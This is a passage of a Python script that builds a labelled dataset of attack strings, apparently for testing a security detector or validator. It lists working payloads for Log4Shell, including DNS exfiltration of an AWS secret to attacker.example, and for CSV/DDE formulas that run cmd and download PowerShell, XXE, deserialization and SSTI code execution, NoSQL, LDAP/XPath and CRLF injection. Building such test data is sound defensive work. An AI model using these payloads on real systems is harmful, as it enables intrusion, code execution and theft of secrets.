    ("log4shell-default-value-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}"),
    ("log4shell-dns-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("log4shell-sys-version", "${jndi:ldap://${sys:java.version}.attacker.example/}"),
    ("log4shell+urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("log4shell-env-nan-obfuscation", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}"),
    ("proto-pollution-json-isadmin", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-query-bracket", "__proto__[isAdmin]=true"),
    ("proto-pollution-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution-node-options-gadget", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("csv-dde-cmd", "=cmd|'/c calc'!A1"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Click for tide table\")"),
    ("csv-plus-dde-powershell", "+cmd|' /C powershell IEX(wget attacker.example/s.ps1)'!A0"),
    ("csv-at-sum-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-importxml-sheets", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")"),
    ("csv-webservice", "=WEBSERVICE(\"http://attacker.example/?\"&A1)"),
    ("csv-dde-function", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("xxe-parameter-entity-oob", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>"),
    ("xinclude-text-file", "<reading xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></reading>"),
    ("xxe-billion-laughs", "<!DOCTYPE log [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><log>&d;</log>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("yaml-python-apply-system", "!!python/object/apply:os.system ['id']"),
    ("yaml-python-new-subprocess", "!!python/object/new:subprocess.check_output [['id']]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/x.jar\"]]]]"),
    ("pickle-protocol0-os-system", "cos\nsystem\n(S'id'\ntR."),
    ("pickle-protocol0+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("java-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}]"),
    ("java-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/x\",\"autoCommit\":true}"),
    ("java-xstream-eventhandler", "<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-unserialize-laravel-gadget", "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":1:{s:13:\"\x00*\x00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\x00*\x00event\";s:2:\"id\";}"),
    ("php-unserialize-property-injection", "O:4:\"User\":1:{s:7:\"isAdmin\";b:1;}"),
    ("php-phar-wrapper", "phar://uploads/certs/tower3.jpg/x"),
]

CODE_PREFIXES = ["Incident summary: ", "SMS template: Hi ", "Lost item note: ", "Flag reason: ",
                 "Cert holder name: "]
CODE_PAYLOADS = [
    ("prefix-log4shell-ldap", "${jndi:ldap://attacker.example/lg}"),
    ("prefix-ssti-jinja2-popen", "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ("prefix-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("prefix-ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
]

# ------------------------------------------------------------------ nosqli
L["nosqli"] = [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("query-bracket-ne-login", "username[$ne]=x&password[$ne]=x"),
    ("where-sleep", "{\"$where\": \"sleep(5000)\"}"),
    ("where-regex-password", "{\"$where\":\"this.password.match(/^a/)\"}"),
    ("json-regex-prefix", "{\"$regex\": \"^adm\"}"),
    ("query-bracket-regex", "password[$regex]=^a.*"),
    ("where-js-string-tautology", "' || '1'=='1"),
    ("where-js-return-true", "'; return true; var x='"),
    ("json-or-empty", "{\"$or\":[{},{\"a\":\"a\"}]}"),
    ("json-expr-eq", "{\"$expr\":{\"$eq\":[1,1]}}"),
    ("query-bracket-exists", "email[$exists]=true"),
    ("json-in-privileged", "{\"$in\":[\"admin\",\"root\",\"supervisor\"]}"),
    ("json-nin-empty", "{\"$nin\":[]}"),
    ("where-numeric-sleep", "0;sleep(5000)"),
    ("where-js-infinite-loop", "'; while(true){}; var a='"),
    ("json-function-sleep", "{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}"),
    ("aggregation-lookup-users", "{\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}"),
    ("couchdb-selector-gt-null", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("query-bracket-gte-tower", "tower[$gte]=0"),
    ("login-body-password-gt", "{\"username\":\"admin\",\"password\":{\"$gt\":\"\"}}"),
    ("where-js-and-length", "admin' && this.password.length > 0 && 'a'=='a"),
    ("json-ne+urlencode", "%7B%22%24ne%22%3Anull%7D"),
    ("where-keys-match", "{\"$where\": \"Object.keys(this)[0].match('^.{0}a.*')\"}"),
    ("query-bracket-where", "guard[$where]=sleep(3000)"),
    ("json-regex-options", "{\"$regex\":\".*\",\"$options\":\"si\"}"),
    ("query-bracket-nin", "role[$nin][]=guard"),
]

# ------------------------------------------------------------------ crlf
L["crlf"] = [
    ("log-forging-lf-admin-action", "Tower 2 check ok\n2024-07-14 10:02:11 INFO user=admin action=delete_all_incidents status=success"),
    ("header-set-cookie+urlencode", "%0d%0aSet-Cookie:%20session=attacker"),
    ("header-set-cookie-literal", "north\r\nSet-Cookie: sid=fixed123"),
    ("header-location+urlencode", "%0D%0ALocation:%20http://attacker.example/"),
    ("response-splitting+urlencode", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("mail-bcc-literal", "guard@beach.example\r\nBcc: everyone@attacker.example"),
    ("mail-cc+urlencode", "Shift swap request%0ACc:%20list@attacker.example"),
    ("mail-body-html-injection", "Roster update\nContent-Type: text/html\n\n<a href=http://attacker.example/verify>verify your account</a>"),
    ("header-unicode-crlf+urlencode", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header-unicode-crlf-literal", "嘊嘍Location: http://attacker.example/"),
    ("header-xff-spoof+urlencode", "%0d%0aX-Forwarded-For:%20127.0.0.1"),
    ("log-forging-crlf-auth", "lost: phone\r\n[2024-07-14 12:00:00] ERROR auth failed for user=supervisor from 203.0.113.50"),
    ("log-forging-lf+urlencode", "red%0aINFO: admin logged in from 10.0.0.5"),
    ("header-set-cookie+double-urlencode", "%250d%250aSet-Cookie:%2520a=b"),
    ("response-splitting-literal-body", "x\r\n\r\n<html><script>alert(1)</script></html>"),
    ("header-cors-injection", "tide\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("smtp-command-injection", "guard\r\n.\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<victim@beach.example>\r\nDATA\r\nSubject: Password reset\r\n\r\nhttp://attacker.example/reset\r\n."),
    ("response-body+urlencode", "%0d%0a%0d%0a<script>alert(1)</script>"),
    ("mail-to-literal", "Cert reminder\nTo: all-staff@beach.example"),
    ("header-cr-only+urlencode", "%0dSet-Cookie:%20a=b"),
    ("log-forging-fake-closure", "Flag reading 35 cfu\n2024-07-14 12:15:00 WARN beach=south status=REOPENED by=manager"),
    ("header-content-security-clear", "ok\r\nContent-Security-Policy: script-src *"),
    ("mail-subject-bcc-literal", "Lost ring\nBcc: spam-list@attacker.example\nX-Priority: 1"),
    ("log-forging-crlf+urlencode", "T3%0d%0a2024-07-14%2009:00:00%20INFO%20cert=bronze%20user=jlee%20status=verified"),
    ("header-refresh-injection", "en\r\nRefresh: 0; url=https://attacker.example/"),
    ("log-json-line-forging", "ok\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password changed\"}"),
    ("header-location-lf-only", "north\nLocation: https://attacker.example/"),
    ("mail-reply-to+urlencode", "Roster%0D%0AReply-To:%20ops@attacker.example"),
    ("header-set-cookie+percent-u", "%u000d%u000aSet-Cookie:%20s=1"),
    ("response-splitting-header-body-literal", "a\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<svg onload=alert(1)>"),
]

# ------------------------------------------------------------------ ldap / xpath
L["ldap-xpath"] = [
    ("ldap-uid-wildcard-break", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-or-objectclass", "*)(|(objectClass=*)"),
    ("ldap-password-prefix-blind", "*)(userPassword=a*"),
    ("ldap-or-password", "admin)(|(password=*))"),
    ("ldap-null-truncate", "*)(cn=*))%00"),
    ("ldap-memberof-admins", "lifeguard*)(memberOf=cn=admins,ou=groups,dc=beach,dc=example"),
    ("ldap-uid-wildcard+urlencode", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("ldap-staff-search-or", "Priya*)(|(mail=*)(telephoneNumber=*)"),
    ("xpath-or-tautology", "' or 1=1 or ''='"),
    ("xpath-string-tautology", "admin' or '1'='1"),
    ("xpath-union-all-nodes", "'] | //user/*[contains(*,'"),
    ("xpath-count-root", "' or count(/*)=1 or 'a'='b"),
    ("xpath-name-probe", "x' or name()='username' or 'x'='y"),
    ("xpath-blind-substring", "' and substring(//user[1]/password,1,1)='a' and ''='"),
    ("xpath-numeric-tautology", "1 or 1=1"),
    ("xpath-select-everything", "'] | //* | //*['"),
    ("xpath-string-length", "' or string-length(name(/*[1]))>0 or ''='"),
    ("xquery-doc-oob", "' or doc(concat('http://attacker.example/',name(/*)))//x or '"),
    ("xpath-cert-lookup-or", "RLSS-2291' or //cert[holder='admin'] or 'a'='b"),
]

TEMPLATED = {
    "sqli": (SQLI_PREFIXES, SQLI_PAYLOADS),
    "xss": (XSS_PREFIXES, XSS_PAYLOADS),
    "cmdi": (CMDI_PREFIXES, CMDI_PAYLOADS),
    "traversal": (TRAV_PREFIXES, TRAV_PAYLOADS),
    "ssrf": (SSRF_PREFIXES, SSRF_PAYLOADS),
    "code": (CODE_PREFIXES, CODE_PAYLOADS),
}


def _templated(rng, category, need, seen):
    """Join a hand-written prefix to a hand-written payload; every third value is
    additionally URL-encoded once (class gets a +urlencode suffix)."""
    prefixes, payloads = TEMPLATED[category]
    out = []
    tries = 0
    while len(out) < need:
        tries += 1
        assert tries < 10000, category
        cls, payload = rng.choice(payloads)
        value = rng.choice(prefixes) + payload
        if len(out) % 3 == 2:
            value = urllib.parse.quote(value, safe="")
            cls = cls + "+urlencode"
        if value in seen:
            continue
        seen.add(value)
        out.append((cls, value))
    return out


def main():
    rng = random.Random(SEED)
    rows = []
    n = 0
    n_lit = 0
    for category, target in TARGETS:
        lits = L[category]
        values = [v for _, v in lits]
        assert len(set(values)) == len(values), category
        assert len(lits) <= target, (category, len(lits))
        items = list(lits)
        n_lit += len(items)
        if len(items) < target:
            items += _templated(rng, category, target - len(items), set(values))
        for cls, value in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": category,
                         "class": cls, "label": "attack", "value": value})
    assert n_lit / len(rows) >= 0.87, n_lit / len(rows)
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d rows (%d literal) to %s" % (len(rows), n_lit, out))


if __name__ == "__main__":
    main()
